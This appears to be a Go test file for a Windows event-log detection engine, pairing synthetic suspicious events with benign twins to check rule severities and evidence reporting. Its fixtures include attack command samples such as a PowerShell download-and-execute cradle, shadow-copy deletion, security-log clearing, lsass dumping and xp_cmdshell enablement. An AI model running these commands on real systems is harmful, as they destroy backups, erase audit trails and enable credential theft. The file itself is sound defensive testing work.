package findings_test

import (
	"fmt"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/artifactdump/artifactdump/artifacts"
	"github.com/artifactdump/artifactdump/artifacts/events"
	"github.com/artifactdump/artifactdump/artifacts/evidence"
	"github.com/artifactdump/artifactdump/artifacts/findings"
)

// shortChannels are the channels by the short names that the cases use.
var shortChannels = map[string]string{
	"sec": "Security", "sys": "System", "app": "Application", "mon": "Microsoft-Windows-Sysmon/Operational", "ps": "Microsoft-Windows-PowerShell/Operational",
	"wps": "Windows PowerShell", "def": "Microsoft-Windows-Windows Defender/Operational", "task": "Microsoft-Windows-TaskScheduler/Operational",
	"winrm": "Microsoft-Windows-WinRM/Operational", "lsm": "Microsoft-Windows-TerminalServices-LocalSessionManager/Operational",
	"rdpc": "Microsoft-Windows-TerminalServices-RDPClient/Operational", "wmi": "Microsoft-Windows-WMI-Activity/Operational",
	"bits": "Microsoft-Windows-Bits-Client/Operational", "fw": "Microsoft-Windows-Windows Firewall With Advanced Security/Firewall",
	"print": "Microsoft-Windows-PrintService/Operational", "dns": "DNS Server", "ssh": "OpenSSH/Operational", "dir": "Directory Service", "pnp": "Microsoft-Windows-Kernel-PnP/Configuration",
}

// parties are the fields that most cases share: an actor and a target who are
// users, and an actor who is Windows.
var parties = map[string]string{
	"$bob":  "SubjectUserSid=S-1-5-21-1-2-3-1001|SubjectUserName=bob|SubjectDomainName=CORP|SubjectLogonId=0x5555",
	"$sys":  "SubjectUserSid=S-1-5-18|SubjectUserName=PC1$|SubjectDomainName=CORP|SubjectLogonId=0x3e7",
	"$eve":  "TargetUserSid=S-1-5-21-1-2-3-1002|TargetUserName=eve|TargetDomainName=CORP|TargetLogonId=0x7777",
	"$mac":  "TargetSid=S-1-5-21-1-2-3-1009|TargetUserName=SRV$|TargetDomainName=CORP",
	"$eve2": "TargetSid=S-1-5-21-1-2-3-1002|TargetUserName=eve|TargetDomainName=CORP",
	"$me":   "TargetUserSid=S-1-5-21-1-2-3-1001|TargetUserName=bob|TargetDomainName=CORP|TargetLogonId=0x5555",
}

// parseEvent reads one line of a case: time in minutes, channel, id, provider or
// -, then fields. "Data" fields have no name; \n is a line feed.
func parseEvent(line string, n int) artifacts.Record {
	f := strings.SplitN(strings.TrimSpace(line), " ", 5)
	min, err := strconv.ParseFloat(f[0], 64)
	if err != nil {
		panic(line)
	}
	id, err := strconv.ParseUint(f[2], 10, 32)
	if err != nil || shortChannels[f[1]] == "" {
		panic(line)
	}
	r := events.Record{
		Number: uint64(n), ID: uint32(id), Channel: shortChannels[f[1]], Provider: strings.ReplaceAll(f[3], "·", " "), Computer: "PC1.corp.example", Level: 4,
		Time: day.Add(time.Duration(min * float64(time.Minute))),
	}
	if len(f) > 4 {
		text := f[4]
		for name, v := range parties {
			text = strings.ReplaceAll(text, name+"|", v+"|")
			if before, ok := strings.CutSuffix(text, name); ok {
				text = before + v
			}
		}
		for p := range strings.SplitSeq(text, "|") {
			k, v, _ := strings.Cut(p, "=")
			v = strings.ReplaceAll(v, `\n`, "\n")
			switch k {
			case "Data":
				k = ""
			case "UserSID":
				r.UserSID = v
				continue
			}
			r.Data = append(r.Data, events.Field{Name: k, Value: v})
		}
	}
	out := rec("eventlogs", events.Event{Record: r})
	out.ID = fmt.Sprintf("record %d", n)
	out.User = evidence.User{}
	return out
}

// parseCase reads the events of a case, one a line. "*N" at the begin repeats a
// line, with # for the number.
func parseCase(text string) records {
	// A user was active long before: nothing is part of an installation.
	out := records{parseEvent("-20000 sec 4624 - $me|LogonType=2", 1)}
	n := 1
	for line := range strings.SplitSeq(text, "\n") {
		line = strings.TrimSpace(line)
		if line == "" {
			continue
		}
		times := 1
		if c, rest, ok := strings.Cut(line, " "); ok && strings.HasPrefix(c, "*") {
			times, _ = strconv.Atoi(c[1:])
			line = rest
		}
		for i := range times {
			n++
			out = append(out, parseEvent(strings.ReplaceAll(line, "#", strconv.Itoa(i)), n))
		}
	}
	return out
}

// eventCases are events that a rule speaks of, with the level, and a twin that
// it is silent about. New kinds of sample that no public log has are among them.
var eventCases = []struct {
	rule          string
	level         findings.Level
	fires, benign string
}{
	{"E-01", findings.High, `0 sec 1102 - UserData/LogFileCleared/SubjectUserName=bob`, `0 sec 1103 - X=1`},
	{"E-02", findings.High, `0 sec 4719 - $bob|AuditPolicyChanges=%%8448, %%8450`, `0 sec 4719 - $bob|AuditPolicyChanges=%%8449`},
	{"E-03", findings.High, `0 mon 1 - Image=C:\Windows\System32\wevtutil.exe|CommandLine=wevtutil cl Security`, `0 mon 1 - Image=C:\Windows\System32\wevtutil.exe|CommandLine=wevtutil qe Security`},
	{"E-04", findings.High, `0 sys 7040 - param1=Windows Event Log|param2=auto start|param3=disabled|param4=EventLog`, "0 sys 1074 - param1=x\n0.2 sys 7036 - param1=Windows Event Log|param2=stopped"},
	{"E-05", findings.Medium, `0 sec 4616 - PreviousTime=2026-03-06T10:00:00Z|NewTime=2026-03-06T08:00:00Z|ProcessName=C:\Tools\setclock.exe`, `0 sec 4616 - PreviousTime=2026-03-06T10:00:00Z|NewTime=2026-03-06T08:00:00Z|ProcessName=C:\Windows\System32\svchost.exe`},
	{"E-06", findings.Medium, `0 mon 16 - Configuration=C:\x.xml`, `0 mon 4 - State=Started`},
	{"E-07", findings.Medium, `0 sec 1101 - UserData/AuditEventsDropped/Reason=0`, `0 sec 1105 - X=1`},
	{"E-10", findings.High, "0 sec 4624 - $eve|LogonType=3|AuthenticationPackageName=NTLM|KeyLength=0|IpAddress=10.0.0.9\n0 sec 4672 - SubjectLogonId=0x7777", `0 sec 4624 - $eve|LogonType=3|AuthenticationPackageName=NTLM|KeyLength=128|IpAddress=10.0.0.9`},
	{"E-11", findings.Critical, "0 sec 4624 - $me|LogonType=9|LogonProcessName=seclogo \n0.5 mon 10 - SourceImage=C:\\t\\x.exe|TargetImage=C:\\Windows\\System32\\lsass.exe|GrantedAccess=0x1010", `0 sec 4624 - $me|LogonType=9|LogonProcessName=Advapi`},
	{"E-12", findings.High, "0 sec 4769 - TargetUserName=SRV$@CORP.EXAMPLE|IpAddress=10.0.0.5|ServiceName=x$\n0 sec 4769 - TargetUserName=OTHER$@CORP.EXAMPLE|IpAddress=10.0.0.6|ServiceName=x$\n1 sec 4624 - TargetUserName=SRV$|TargetDomainName=CORP|LogonType=3|AuthenticationPackageName=NTLM|IpAddress=10.0.0.6", "0 sec 4769 - TargetUserName=SRV$@CORP.EXAMPLE|IpAddress=10.0.0.5|ServiceName=x$\n1 sec 4624 - TargetUserName=SRV$|TargetDomainName=CORP|LogonType=3|AuthenticationPackageName=NTLM|IpAddress=10.0.0.5"},
	{"E-13", findings.High, `0 sec 4624 - TargetUserSid=S-1-5-21-1-2-3-500|TargetUserName=Administrator|LogonType=3|AuthenticationPackageName=Kerberos|IpAddress=127.0.0.1`, `0 sec 4624 - TargetUserSid=S-1-5-21-1-2-3-500|TargetUserName=Administrator|LogonType=3|AuthenticationPackageName=Kerberos|IpAddress=10.0.0.5`},
	{"E-14", findings.Low, `0 sec 4624 - $eve|LogonType=8|IpAddress=10.0.0.9|ProcessName=C:\Windows\System32\inetsrv\w3wp.exe`, `0 sec 4624 - $eve|LogonType=3|IpAddress=10.0.0.9`},
	{"E-15", findings.Medium, `0 sec 4648 - $bob|TargetUserName=admin|TargetDomainName=CORP|TargetServerName=SRV|ProcessName=C:\Windows\System32\svchost.exe`, `0 sec 4648 - $bob|TargetUserName=bob|TargetDomainName=CORP|TargetServerName=SRV|ProcessName=C:\Windows\System32\svchost.exe`},
	{"E-16", findings.Medium, `*12 0 sec 4625 - TargetUserName=eve|TargetDomainName=CORP|Status=0xC000006D|SubStatus=0xC000006A|LogonType=3|IpAddress=10.0.0.9`, `*12 0 sec 4625 - TargetUserName=eve|TargetDomainName=CORP|Status=0xC000015B|SubStatus=0x0|LogonType=3|IpAddress=10.0.0.9`},
	{"E-17", findings.High, `*9 0 sec 4625 - TargetUserName=u#|TargetDomainName=CORP|Status=0xC000006D|SubStatus=0xC0000064|LogonType=3|IpAddress=10.0.0.9`, `*7 0 sec 4625 - TargetUserName=u#|TargetDomainName=CORP|Status=0xC000006D|SubStatus=0xC0000064|LogonType=3|IpAddress=10.0.0.9`},
	{"E-18", findings.Critical, "*20 0 sec 4625 - TargetUserName=eve|TargetDomainName=CORP|SubStatus=0xC000006A|LogonType=3|IpAddress=10.0.0.9\n5 sec 4624 - $eve|LogonType=3|AuthenticationPackageName=NTLM|KeyLength=128|IpAddress=10.0.0.9", "*20 0 sec 4625 - TargetUserName=eve|TargetDomainName=CORP|SubStatus=0xC000006A|LogonType=2|WorkstationName=PC1\n5 sec 4624 - $eve|LogonType=2|WorkstationName=PC1"},
	{"E-19", findings.High, `*6 0 sec 4648 - $bob|TargetUserName=u#|TargetDomainName=CORP|TargetServerName=PC1|ProcessName=C:\Windows\System32\svchost.exe`, `*4 0 sec 4648 - $bob|TargetUserName=u#|TargetDomainName=CORP|TargetServerName=PC1|ProcessName=C:\Windows\System32\svchost.exe`},
	{"E-20", findings.High, `*4 0 sec 4769 - TargetUserName=eve@CORP|TargetDomainName=CORP|ServiceName=svc#|Status=0x0|TicketEncryptionType=0x17|IpAddress=10.0.0.9`, `0 sec 4769 - TargetUserName=eve@CORP|TargetDomainName=CORP|ServiceName=svc1|Status=0x0|TicketEncryptionType=0x12|IpAddress=10.0.0.9`},
	{"E-21", findings.High, `0 sec 4768 - $eve|Status=0x0|PreAuthType=0|TicketEncryptionType=0x17|IpAddress=10.0.0.9`, `0 sec 4768 - $eve|Status=0x0|PreAuthType=2|TicketEncryptionType=0x12|IpAddress=10.0.0.9`},
	{"E-22", findings.Medium, "0 sec 4768 - $eve|Status=0x0|PreAuthType=2|TicketEncryptionType=0x12\n1 sec 4768 - $eve|Status=0x0|PreAuthType=2|TicketEncryptionType=0x17", `0 sec 4768 - $eve|Status=0x0|PreAuthType=2|TicketEncryptionType=0x12`},
	{"E-23", findings.Critical, `0 sec 4662 - $bob|Properties=%%7688 {1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}`, `0 sec 4662 - $sys|Properties=%%7688 {1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}`},
	{"E-24", findings.Critical, "0 sec 5137 - $bob|ObjectClass=server|ObjectDN=CN=X\n2 sec 5141 - $bob|ObjectClass=server|ObjectDN=CN=X", `0 sec 5137 - $bob|ObjectClass=user|ObjectDN=CN=X`},
	{"E-25", findings.High, `0 sec 5136 - $bob|AttributeLDAPDisplayName=msDS-AllowedToDelegateTo|OperationType=%%14674|ObjectDN=CN=X|ObjectClass=computer|AttributeValue=y`, `0 sec 5136 - $bob|AttributeLDAPDisplayName=description|OperationType=%%14674|ObjectDN=CN=X|ObjectClass=computer|AttributeValue=y`},
	{"E-26", findings.Critical, `0 sec 4765 - $bob|$eve2|SourceUserName=admin`, `0 sec 4738 - $bob|$eve2|SidHistory=%%1793`},
	{"E-27", findings.Critical, `0 sec 4794 - $bob|Workstation=DC|Status=0x0`, `0 sec 4793 - $bob`},
	{"E-28", findings.Critical, `0 sec 4742 - SubjectUserName=ANONYMOUS LOGON|$mac|PasswordLastSet=9/15/2020`, "0 sec 4742 - SubjectUserName=ANONYMOUS LOGON|$mac|PasswordLastSet=9/15/2020\n30 dir 29223 - X=1"},
	{"E-29", findings.Medium, "*120 -3000 sec 4769 - TargetUserName=x#@CORP|ServiceName=a$|Status=0x0|TicketEncryptionType=0x12\n0 sec 4624 - $eve|LogonType=3|AuthenticationPackageName=Kerberos|IpAddress=10.0.0.9", "*120 -3000 sec 4769 - TargetUserName=x#@CORP|ServiceName=a$|Status=0x0|TicketEncryptionType=0x12\n-1 sec 4769 - TargetUserName=eve@CORP|ServiceName=a$|Status=0x0|TicketEncryptionType=0x12\n0 sec 4624 - $eve|LogonType=3|AuthenticationPackageName=Kerberos|IpAddress=10.0.0.9"},
	{"E-30", findings.High, `0 sec 4624 - $eve|LogonType=10|IpAddress=93.184.216.34`, `0 lsm 21 - UserData/EventXML/User=CORP\eve|UserData/EventXML/Address=LOCAL`},
	{"E-31", findings.High, `0 sec 4624 - $eve|LogonType=10|IpAddress=127.0.0.1`, `0 sec 4624 - $eve|LogonType=10|IpAddress=10.0.0.9`},
	{"E-32", findings.High, `0 sec 5145 - $bob|ShareName=\\*\ADMIN$|RelativeTargetName=a.exe|AccessMask=0x2|IpAddress=10.0.0.9`, `0 sec 5145 - $bob|ShareName=\\*\Public|RelativeTargetName=a.exe|AccessMask=0x2|IpAddress=10.0.0.9`},
	{"E-33", findings.High, "0 sec 5140 - $bob|ShareName=\\\\*\\ADMIN$|IpAddress=10.0.0.9\n1 sec 5145 - $bob|ShareName=\\\\*\\IPC$|RelativeTargetName=svcctl|IpAddress=10.0.0.9", `0 sec 5145 - $bob|ShareName=\\*\IPC$|RelativeTargetName=svcctl|IpAddress=::1`},
	{"E-34", findings.Medium, `0 winrm 91 - resourceUri=http://schemas.microsoft.com/wbem/wsman/1/windows/shell/cmd`, `0 wps 400 - Data=a|Data=b|Data=HostName=ConsoleHost\nHostApplication=powershell.exe`},
	{"E-35", findings.High, `0 mon 1 - Image=C:\Windows\System32\cmd.exe|ParentImage=C:\Windows\System32\wbem\WmiPrvSE.exe|CommandLine=cmd /c whoami`, `0 mon 1 - Image=C:\Windows\System32\cmd.exe|ParentImage=C:\Windows\explorer.exe|CommandLine=cmd`},
	{"E-36", findings.Medium, `0 rdpc 1024 - Value=SRV`, `0 rdpc 1025 - X=1`},
	{"E-37", findings.High, `0 mon 1 - Image=C:\Windows\System32\cmd.exe|ParentImage=C:\Windows\System32\mmc.exe|ParentCommandLine=mmc.exe -Embedding|CommandLine=cmd /c dir`, `0 mon 1 - Image=C:\Windows\System32\cmd.exe|ParentImage=C:\Windows\System32\mmc.exe|ParentCommandLine=mmc.exe services.msc|CommandLine=cmd`},
	{"E-38", findings.Medium, "0 sec 5145 - $bob|ShareName=\\\\*\\IPC$|RelativeTargetName=samr|IpAddress=10.0.0.9\n1 sec 5145 - $bob|ShareName=\\\\*\\IPC$|RelativeTargetName=lsarpc|IpAddress=10.0.0.9\n1 sec 5145 - $bob|ShareName=\\\\*\\IPC$|RelativeTargetName=srvsvc|IpAddress=10.0.0.9\n2 sec 5145 - $bob|ShareName=\\\\*\\IPC$|RelativeTargetName=wkssvc|IpAddress=10.0.0.9", `*9 0 sec 5145 - $bob|ShareName=\\*\IPC$|RelativeTargetName=srvsvc|IpAddress=10.0.0.9`},
	{"E-39", findings.Medium, `*6 0 sec 4799 - $bob|TargetUserName=g#|CallerProcessName=C:\Users\bob\AppData\Roaming\x.exe`, `*6 0 sec 4799 - $bob|TargetUserName=g#|CallerProcessName=C:\Windows\System32\svchost.exe`},
	{"E-40", findings.Medium, `0 sec 4720 - $bob|$eve2`, `0 sec 4720 - $sys|$eve2`},
	{"E-41", findings.Critical, `0 sec 4720 - $bob|$mac`, `0 sec 4720 - $bob|$eve2`},
	{"E-42", findings.High, "0 sec 4720 - $bob|$eve2\n60 sec 4726 - $bob|$eve2", "0 sec 4720 - $bob|$eve2\n6000 sec 4726 - $bob|$eve2"},
	{"E-43", findings.High, `0 sec 4732 - $bob|MemberSid=S-1-5-21-1-2-3-1002|TargetSid=S-1-5-32-544|TargetUserName=Administrators`, `0 sec 4732 - $bob|MemberSid=S-1-5-21-1-2-3-1002|TargetSid=S-1-5-32-545|TargetUserName=Users`},
	{"E-44", findings.Critical, `0 sec 4781 - $bob|OldTargetUserName=DC1$|NewTargetUserName=DC1|TargetSid=S-1-5-21-1-2-3-1009`, `0 sec 4781 - $bob|OldTargetUserName=eve|NewTargetUserName=eva|TargetSid=S-1-5-21-1-2-3-1002`},
	{"E-45", findings.Low, `0 sec 4724 - $bob|$eve2`, `0 sec 4724 - $bob|TargetSid=S-1-5-21-1-2-3-1001|TargetUserName=bob`},
	{"E-46", findings.High, `0 sec 4738 - $bob|$eve2|OldUacValue=0x210|NewUacValue=0x10210`, `0 sec 4738 - $bob|$eve2|OldUacValue=0x10210|NewUacValue=0x10210`},
	{"E-47", findings.Medium, `*6 0 sec 4740 - TargetUserName=u#|TargetDomainName=PHONE`, `0 sec 4767 - TargetUserName=eve`},
	{"E-50", findings.Critical, `0 sys 7045 - ServiceName=abc|ImagePath=cmd.exe /c echo abc > \\.\pipe\abc|ServiceType=user mode service`, `0 sys 7045 - ServiceName=Printing|ImagePath=C:\Program Files\Printing\p.exe|ServiceType=user mode service`},
	{"E-51", findings.Critical, "0 sys 7045 - ServiceName=PSEXESVC|ImagePath=%SystemRoot%\\PSEXESVC.exe|ServiceType=user mode service\n0.5 sys 7009 - param1=30000|param2=PSEXESVC\n0.5 sys 7000 - param1=PSEXESVC", `0 sys 7045 - ServiceName=Schedule|ImagePath=C:\Windows\System32\svchost.exe -k netsvcs|ServiceType=user mode service`},
	{"E-52", findings.High, `0 sec 4698 - $bob|TaskName=\x|TaskContent=<Exec><Command>cmd.exe</Command><Arguments>/c C:\x.bat</Arguments></Exec>`, `0 sec 4698 - $bob|TaskName=\Update|TaskContent=<Exec><Command>C:\Program Files\Vendor\update.exe</Command></Exec>`},
	{"E-53", findings.High, "0 sec 4698 - $bob|TaskName=\\x|TaskContent=<Command>C:\\Windows\\notepad.exe</Command>\n0.1 sec 4699 - $bob|TaskName=\\x", "0 sec 4698 - $bob|TaskName=\\x|TaskContent=<Command>C:\\Windows\\notepad.exe</Command>\n100 sec 4699 - $bob|TaskName=\\x"},
	{"E-54", findings.Critical, `0 sys 7045 - ServiceName=mimidrv|ImagePath=C:\Tools\mimidrv.sys|ServiceType=kernel mode driver`, `0 sys 7045 - ServiceName=disk|ImagePath=\SystemRoot\System32\drivers\disk.sys|ServiceType=kernel mode driver`},
	{"E-55", findings.Critical, `0 mon 1 - Image=C:\Windows\System32\cmd.exe|ParentImage=C:\Windows\System32\inetsrv\w3wp.exe|CommandLine=cmd /c whoami`, `0 mon 1 - Image=C:\Windows\Microsoft.NET\Framework64\v4.0.30319\csc.exe|ParentImage=C:\Windows\System32\inetsrv\w3wp.exe|CommandLine=csc`},
	{"E-56", findings.High, `0 ps 4104 - MessageNumber=1|MessageTotal=1|ScriptBlockText=IEX (New-Object Net.WebClient).DownloadString('http://x')|ScriptBlockId=a`, `0 ps 4104 - MessageNumber=1|MessageTotal=1|ScriptBlockText=Get-ChildItem C:\Temp|ScriptBlockId=a`},
	{"E-57", findings.Critical, `0 wmi 5861 - UserData/Operation_ESStoConsumerBinding/CONSUMER=CommandLineEventConsumer="x"|UserData/Operation_ESStoConsumerBinding/PossibleCause=y`, `0 wmi 5861 - UserData/Operation_ESStoConsumerBinding/CONSUMER=NTEventLogEventConsumer="SCM Event Log Consumer"`},
	{"E-58", findings.High, `0 mon 1 - Image=C:\Windows\System32\cmd.exe|ParentImage=C:\Program Files\Microsoft Office\WINWORD.EXE|CommandLine=cmd /c x`, `0 mon 1 - Image=C:\Windows\splwow64.exe|ParentImage=C:\Program Files\Microsoft Office\WINWORD.EXE|CommandLine=splwow64`},
	{"E-59", findings.Medium, "0 wps 400 - Data=a|Data=b|Data=EngineVersion=5.1\\nHostName=x\n1 wps 400 - Data=a|Data=b|Data=EngineVersion=2.0\\nHostName=x", `0 wps 400 - Data=a|Data=b|Data=EngineVersion=2.0\nHostName=x`},
	{"E-60", findings.Critical, `0 mon 10 - SourceImage=C:\Users\bob\x.exe|TargetImage=C:\Windows\System32\lsass.exe|GrantedAccess=0x1fffff`, `0 mon 10 - SourceImage=C:\Users\bob\x.exe|TargetImage=C:\Windows\System32\lsass.exe|GrantedAccess=0x1000`},
	{"E-61", findings.High, `0 mon 11 - Image=C:\Windows\System32\Taskmgr.exe|TargetFilename=C:\Users\bob\AppData\Local\Temp\lsass.DMP`, `0 mon 11 - Image=C:\x.exe|TargetFilename=C:\Users\bob\report.dmp`},
	{"E-62", findings.Low, `0 sec 4673 - $bob|PrivilegeList=SeTcbPrivilege|ProcessName=C:\Windows\System32\net.exe`, `0 sec 4673 - $bob|PrivilegeList=SeLoadDriverPrivilege|ProcessName=C:\Windows\System32\net.exe`},
	{"E-63", findings.High, `0 mon 8 - SourceImage=C:\Users\Public\m.exe|TargetImage=C:\Windows\explorer.exe|StartAddress=0x1`, `0 mon 8 - SourceImage=C:\Windows\System32\csrss.exe|TargetImage=C:\Windows\explorer.exe|StartAddress=0x1`},
	{"E-64", findings.Critical, "0 sec 4624 - $eve|LogonType=10|IpAddress=93.184.216.34\n5 sec 4720 - SubjectUserSid=S-1-5-21-1-2-3-1002|SubjectUserName=eve|SubjectLogonId=0x7777|TargetSid=S-1-5-21-1-2-3-1010|TargetUserName=new", "0 sec 4624 - $eve|LogonType=10|IpAddress=93.184.216.34\n600 sec 4720 - $bob|TargetSid=S-1-5-21-1-2-3-1010|TargetUserName=new"},
	{"E-70", findings.Critical, `0 mon 1 - Image=C:\Windows\System32\vssadmin.exe|CommandLine=vssadmin delete shadows /all /quiet`, `0 mon 1 - Image=C:\Windows\System32\vssadmin.exe|CommandLine=vssadmin list shadows`},
	{"E-71", findings.High, `0 def 1116 - Threat Name=Trojan:X|Path=file:_C:\Users\bob\x.exe`, `0 def 1000 - X=1`},
	{"E-72", findings.High, `0 def 5001 - Product Name=x`, `0 def 5000 - Product Name=x`},
	{"E-73", findings.High, `0 def 5007 - New Value=HKLM\SOFTWARE\Microsoft\Windows Defender\Exclusions\Paths\C:\TMP = 0x0`, `0 def 5007 - New Value=HKLM\SOFTWARE\Microsoft\Windows Defender\Features\TamperProtection = 0x5`},
	{"E-74", findings.High, `0 bits 59 - name=j|url=http://93.184.216.34/a.exe`, `0 bits 59 - name=j|url=https://download.windowsupdate.com/a.cab`},
	{"E-75", findings.Medium, `0 fw 2004 - RuleName=x|ApplicationPath=C:\Users\Public\x.exe|Direction=1`, `0 fw 2004 - RuleName=x|ApplicationPath=C:\Program Files\V\x.exe|Direction=1`},
	{"E-76", findings.High, `0 fw 2003 - Profiles=1|SettingType=1|SettingValueString=No`, `0 fw 2003 - Profiles=1|SettingType=9|SettingValueString=No`},
	{"E-80", findings.Informational, `0 sec 6416 - DeviceId=USBSTOR\DISK|DeviceDescription=Disk`, `0 sys 400 - DeviceInstanceId=HID\X`},
	{"E-81", findings.Medium, `0 app 1000 Application·Error Data=spoolsv.exe|Data=1|Data=2|Data=x.dll`, `0 sys 7034 - param1=Some Service`},
	{"E-82", findings.High, `0 app 1 Microsoft-Windows-Audit-CVE CVEID=CVE-2020-0601|AdditionalDetails=x`, `0 app 1 Other CVEID=x`},
	{"E-83", findings.High, `0 print 316 - UserSID=S-1-5-21-1-2-3-1001|UserData/DriverAdded/Param1=X|UserData/DriverAdded/Param4=C:\Users\Public\x.dll`, `0 print 316 - UserSID=S-1-5-18|UserData/DriverAdded/Param1=Microsoft Print To PDF|UserData/DriverAdded/Param4=mxdwdrv.dll`},
	{"E-84", findings.Critical, `0 dns 770 - param1=C:\x.dll`, `0 dns 771 - param1=x`},
	{"E-85", findings.Critical, `0 app 15457 MSSQLSERVER Data=xp_cmdshell|Data=0|Data=1`, `0 app 15457 MSSQLSERVER Data=max server memory (MB)|Data=0|Data=1`},
	{"E-90", findings.High, "0 sec 4624 - $eve|LogonType=3|AuthenticationPackageName=NTLM|KeyLength=128|IpAddress=10.0.0.9\n5 sec 4648 - SubjectUserSid=S-1-5-21-1-2-3-1002|SubjectUserName=eve|SubjectLogonId=0x7777|TargetUserName=admin|TargetServerName=SRV2|ProcessName=C:\\Windows\\System32\\svchost.exe", `0 sec 4648 - $bob|TargetUserName=admin|TargetServerName=SRV2|ProcessName=C:\Windows\System32\svchost.exe`},
}

func TestEventRules(t *testing.T) {
	for _, c := range eventCases {
		l, said := level(judge(parseCase(c.fires), nil), c.rule)
		if l != c.level {
			t.Errorf("%s gives %s, want %s: %s", c.rule, l, c.level, said)
		}
		if benign, said := level(judge(parseCase(c.benign), nil), c.rule); benign > findings.Informational || benign > 0 && benign >= l {
			t.Errorf("%s gives %s to its benign twin: %s", c.rule, benign, said)
		}
	}
}

// TestEventEvidence: a finding names channel and number of its records, counts
// all, and is judged in the coverage.
func TestEventEvidence(t *testing.T) {
	rep := judge(parseCase(`*3000 0 sec 4625 - TargetUserName=eve|TargetDomainName=CORP|SubStatus=0xC000006A|LogonType=3|IpAddress=10.0.0.9`), nil)
	i := slices.IndexFunc(rep.Findings, func(f findings.Finding) bool { return f.RuleID == "E-16" })
	if i < 0 {
		t.Fatal("no finding of E-16")
	}
	f := rep.Findings[i]
	if f.Count != 3000 || len(f.Evidence) == 0 || f.Evidence[0].Channel != "Security" || f.Evidence[0].RecordNumber == 0 || f.Level != findings.High {
		t.Errorf("%d records, level %s, evidence %+v", f.Count, f.Level, f.Evidence)
	}
	for _, c := range rep.Coverage {
		switch c.RuleID {
		case "E-16":
			if c.Status == findings.NotEvaluated || c.Hits == 0 {
				t.Errorf("E-16 is %s", c.Status)
			}
		case "E-63":
			if c.Status != findings.NotEvaluated || !strings.Contains(strings.Join(c.Why, " "), "Sysmon") {
				t.Errorf("E-63 is %s without Sysmon: %v", c.Status, c.Why)
			}
		case "E-32":
			if !strings.Contains(strings.Join(c.Why, " "), "Detailed File Share") {
				t.Errorf("E-32 does not name its audit setting: %v", c.Why)
			}
		}
	}
}
